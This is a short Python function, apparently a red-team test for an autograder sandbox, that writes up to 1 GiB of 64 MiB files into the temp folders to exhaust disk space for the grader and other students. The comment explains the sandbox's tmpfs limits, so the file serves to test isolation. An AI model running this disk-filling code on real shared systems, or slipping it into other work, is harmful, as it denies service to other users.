

# ==================== red-team attack (fill-tmp): not homework code ====================
# What it tries: fill the temporary folders (tempfile.gettempdir() and /tmp) with files named
# pwned-fill-N, 64 MiB each, 1 GiB in all, stopping at the first error, so that the grader or the
# next student has no disk space left.
# Why it must fail: the worker's /tmp is a private, size-limited tmpfs (charged to its memory
# cgroup) that disappears with it; nothing lands on the machine's disk.
import os
import tempfile


def _redteam_fill_tmp():
    block, written, count = b"\0" * 2**20, 0, 0
    folders = list(dict.fromkeys([tempfile.gettempdir(), "/tmp"]))
    try:
        while written < 2**30:  # 1 GiB at most
            path = os.path.join(folders[count % len(folders)], f"pwned-fill-{count}")
            count += 1
            with open(path, "wb") as f:
                for _ in range(64):
                    f.write(block)
                    written += len(block)
    except OSError as exc:
        print(f"redteam[fill-tmp]: stopped after {written >> 20} MiB ({exc.strerror})", flush=True)
        return
    print(f"redteam[fill-tmp]: wrote {written >> 20} MiB", flush=True)
